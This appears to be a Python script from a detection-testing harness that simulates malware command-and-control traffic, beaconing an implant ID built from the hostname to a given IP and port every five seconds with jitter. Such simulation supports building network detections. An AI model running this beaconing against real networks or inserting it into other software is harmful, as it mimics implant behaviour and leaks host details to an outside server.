"""Malicious (T1571/T1071): an implant beaconing to its C2 by IP on a non-standard port every 5 s +/- 20 %."""

from __future__ import annotations

import random
import socket
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from _common import parser, setup, sleep_until, tcp_exchange, ticks  # noqa: E402


def main() -> None:
    p = parser("c2 beacon")
    p.add_argument("--c2", required=True, help="IP:PORT")
    p.add_argument("--period", type=float, default=5.0)
    p.add_argument("--jitter", type=float, default=0.2)
    args = p.parse_args()
    deadline = setup(args)
    host, port = args.c2.rsplit(":", 1)
    implant_id = f"{socket.gethostname()}-{random.getrandbits(32):08x}"
    for _ in ticks(deadline):
        tcp_exchange(host, int(port), f"POST /submit.php?id={implant_id} HTTP/1.1\r\n\r\n".encode(), hold=0.3)
        if not sleep_until(deadline, args.period * random.uniform(1 - args.jitter, 1 + args.jitter)):
            return


if __name__ == "__main__":
    main()
